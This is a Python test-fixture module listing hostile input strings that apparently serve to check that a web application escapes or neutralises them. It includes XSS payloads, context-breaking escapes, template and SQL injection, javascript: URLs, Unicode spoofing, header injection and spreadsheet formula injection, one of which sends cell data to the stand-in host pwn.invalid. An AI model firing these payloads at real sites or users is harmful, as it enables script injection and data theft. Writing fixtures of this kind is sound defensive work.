"""Texts that would do harm where text is taken for anything else: each sets a canary off if any of it runs.

The canary is ``pwn()``, or a message to the window around, or a request to ``pwn.invalid``. A hole is a place on a
badly made page: a test sees by it that the text is armed.
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass

PAGE = "<div>{}</div>"
DOUBLE_QUOTED = '<img alt="{}">'
SINGLE_QUOTED = "<img alt='{}'>"
UNQUOTED = "<img alt={}>"
TITLE = "<title>{}</title>"
TEXTAREA = "<textarea>{}</textarea>"
STYLE = "<style>b {{ color: {} }}</style>"
COMMENT = "<!-- {} -->"
NOSCRIPT = "<noscript>{}</noscript>"
SCRIPT = '<script>window.name = "{}";</script>'
SCRIPT_TEMPLATE = "<script>window.name = `{}`;</script>"
LINK = '<a href="{}">link</a><script>document.querySelector("a").click()</script>'
FRAME = '<iframe src="{}"></iframe>'
DECODED = (
    "<p id=once>{}</p>"
    "<script>document.body.append(document.createRange().createContextualFragment(once.textContent))</script>"
)


@dataclass(frozen=True)
class Hostile:
    """One text."""

    text: str
    hole: str | None = None
    """Where it runs on a page with that hole; None for what misleads people or other programs."""
    cleaned: str | None = None
    """What is shown of it, where that is not the text itself."""
    lines: str | None = None
    """What is shown of it where a text may have lines, if it is another."""

    def shown(self, longest: int) -> str:
        """What is shown of it where a text has so many code points at most."""
        return (self.text if self.cleaned is None else self.cleaned)[:longest].strip()

    def said(self, longest: int) -> str:
        """What is shown of it where a text has so many code points at most, and may have lines."""
        return self.shown(longest) if self.lines is None else self.lines

    def sent(self, longest: int) -> str:
        """As much of it as a client may send there."""
        return self.text[:longest]


MARKUP = [
    Hostile("<script>pwn()</script>", PAGE),
    Hostile("<ScRiPt >pwn()</sCrIpT >", PAGE),
    Hostile("<script/x>pwn()</script/x>", PAGE),
    Hostile("<script src=//pwn.invalid/1.js></script>"),
    Hostile("<script>parent.postMessage('pwn','*')</script>", PAGE),
    Hostile("<img src=x onerror=pwn()>", PAGE),
    Hostile("<img src=x onerror=pwn()//", PAGE),
    Hostile("<IMG SRC=x OnErRoR=pwn()>", PAGE),
    Hostile("<img/src/onerror=pwn()>", PAGE),
    Hostile("<img src=//pwn.invalid/2.png>"),
    Hostile("<image src=x onerror=pwn()>", PAGE),
    Hostile("<svg onload=pwn()>", PAGE),
    Hostile("<svg/onload=pwn()>", PAGE),
    Hostile("<svg><script>pwn()</script></svg>", PAGE),
    Hostile("<svg><script>pw&#110;()</script></svg>", PAGE),
    Hostile("<svg><animate onbegin=pwn() attributeName=x>", PAGE),
    Hostile("<svg><style><img src=x onerror=pwn()></style></svg>", PAGE),
    Hostile("<math><mtext><img src=x onerror=pwn()></mtext></math>", PAGE),
    Hostile("<math><style><img src=x onerror=pwn()></style></math>", PAGE),
    Hostile("<body onload=pwn()>", PAGE),
    Hostile("<input autofocus onfocus=pwn()>"),
    Hostile("<details open ontoggle=pwn()>x</details>", PAGE),
    Hostile("<video><source onerror=pwn()></video>", PAGE),
    Hostile("<audio src=x onerror=pwn()>", PAGE),
    Hostile("<object data=//pwn.invalid/3.svg></object>"),
    Hostile("<embed src=//pwn.invalid/4.svg>"),
    Hostile("<iframe src=javascript:parent.pwn()>", PAGE),
    Hostile('<iframe srcdoc="<script>parent.pwn()</script>">', PAGE),
    Hostile("<base href=//pwn.invalid/>"),
    Hostile("<link rel=stylesheet href=//pwn.invalid/5.css>"),
    Hostile("<style>@import'//pwn.invalid/6.css'</style>"),
    Hostile("<style>*{background:url(//pwn.invalid/7)}</style>"),
    Hostile("<meta http-equiv=refresh content=0;url=//pwn.invalid>"),
    Hostile("<form action=//pwn.invalid><button>Join</button></form>"),
    Hostile("<p style=position:fixed;inset:0;background:red>x</p>"),
    Hostile("<a href=javascript:pwn()>Join</a>"),
    Hostile("<template><img src=x onerror=pwn()></template>"),
    Hostile("<xss autofocus tabindex=1 onfocus=pwn()>"),
    Hostile("<b>Panitia</b><hr><!--"),
]
"""Elements, and attributes that run."""

ESCAPES = [
    Hostile('"><img src=x onerror=pwn()>', DOUBLE_QUOTED),
    Hostile('" onerror=pwn() src=x "', DOUBLE_QUOTED),
    Hostile("' onerror=pwn() src=x '", SINGLE_QUOTED),
    Hostile("x onerror=pwn() src=x", UNQUOTED),
    Hostile("</title><svg onload=pwn()>", TITLE),
    Hostile("</textarea><svg onload=pwn()>", TEXTAREA),
    Hostile("</style><svg onload=pwn()>", STYLE),
    Hostile("--><svg onload=pwn()>", COMMENT),
    Hostile("--!><svg onload=pwn()>", COMMENT),
    Hostile("</noscript><svg onload=pwn()>", NOSCRIPT),
    Hostile("</script><svg onload=pwn()>", SCRIPT),
    Hostile('";pwn();"', SCRIPT),
    Hostile("${pwn()}", SCRIPT_TEMPLATE),
    Hostile("]]><script>pwn()</script>", PAGE),
    Hostile(
        "javascript:/*--></title></style></textarea></script></noscript>'\"`><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+"
        "pwn()//'>",
        TEXTAREA,
    ),
]
"""What ends the place where a text stands, and goes on as something else."""

ENCODED = [
    Hostile("&lt;img src=x onerror=pwn()&gt;", DECODED),
    Hostile("&#60;svg onload=pwn()&#62;", DECODED),
    Hostile("%3Csvg%20onload%3Dpwn()%3E"),
    Hostile("\\u003csvg onload=pwn()\\u003e"),
    Hostile("+ADw-script+AD4-pwn()+ADw-/script+AD4-"),
    Hostile("&amp;lt;b&amp;gt; &copy;&#0;"),
    Hostile("\uff1csvg onload=pwn()\uff1e"),
    Hostile("{{constructor.constructor('pwn()')()}}"),
    Hostile("#{pwn()} <%= pwn() %> {% pwn %} ${{7*7}}"),
    Hostile("{name} {n} {0} %s $& $1 $` $'"),
    Hostile("__proto__"),
    Hostile("constructor"),
    Hostile("'; DROP TABLE visits; --"),
]
"""What another layer would decode or fill in."""

LINKS = [
    Hostile("javascript:pwn()", LINK),
    Hostile("JaVaScRiPt:pwn()", LINK),
    Hostile("javascript:pwn()//https://rapat.example.go.id", LINK),
    Hostile("java\tscript:pwn()", LINK, "java script:pwn()"),
    Hostile("\x01javascript:pwn()", LINK, "javascript:pwn()"),
    Hostile("data:text/html,<script>parent.postMessage('pwn','*')</script>", FRAME),
    Hostile("vbscript:pwn()"),
    Hostile("[Undangan](javascript:pwn())"),
    Hostile("![foto](https://pwn.invalid/8.png)"),
    Hostile('https://pwn.invalid/"onmouseover="pwn()'),
    Hostile("https://pwn.invalid/'onclick='pwn()"),
    Hostile("https://pwn.invalid/<svg onload=pwn()>"),
    Hostile("https://rapat.example.go.id@pwn.invalid/"),
    Hostile("https://javascript:pwn()@pwn.invalid/"),
    Hostile("https://[pwn https://% http://"),
    Hostile("mailto:a@pwn.invalid?body=<svg onload=pwn()>"),
    Hostile("//pwn.invalid/x ftp://pwn.invalid file:///etc/passwd"),
]
"""What would be followed."""

MISLEADING = [
    Hostile("\u202eexe.tsefinam", None, "exe.tsefinam"),
    Hostile("Bupati\u2066 \u2069\u200e\u200f", None, "Bupati"),
    Hostile("Se\u200bkre\u2060ta\ufeffris", None, "Sekretaris"),
    Hostile("Host\u2028(You)\u2029x", None, "Host (You) x"),
    Hostile("a\x00b\x1b[31mc\x07\x08d", None, "ab[31mcd"),
    Hostile("Made\r\nSet-Cookie: a=b", None, "Made Set-Cookie: a=b", "Made\nSet-Cookie: a=b"),
    Hostile("Z" + "\u0301" * 55, None, unicodedata.normalize("NFC", "Z" + "\u0301" * 55)),
    Hostile("\u0e01" + "\u0e49" * 55),
    Hostile("\ufdfd\ufdfd\ufdfd"),
    Hostile("W" * 4_000),
    Hostile("🏳️‍🌈👩‍👩‍👧‍👦" * 6),
    Hostile("(You)"),
]
"""What would mislead whoever reads it, or push all else aside."""

FORMULAS = [
    Hostile('=HYPERLINK("https://pwn.invalid/?"&A1,"x")'),
    Hostile("=cmd|' /C calc'!A0"),
    Hostile("+1+cmd|' /C calc'!A0"),
    Hostile("-2+3+cmd|' /C calc'!A0"),
    Hostile("@SUM(1+1)*cmd|' /C calc'!A0"),
    Hostile("Made,=1+1;=1+1|=1+1"),
    Hostile('";=1+1;"'),
    Hostile("\uff1d1+1"),
]
"""What a spreadsheet would reckon."""

TEXTS = [*MARKUP, *ESCAPES, *ENCODED, *LINKS, *MISLEADING, *FORMULAS]
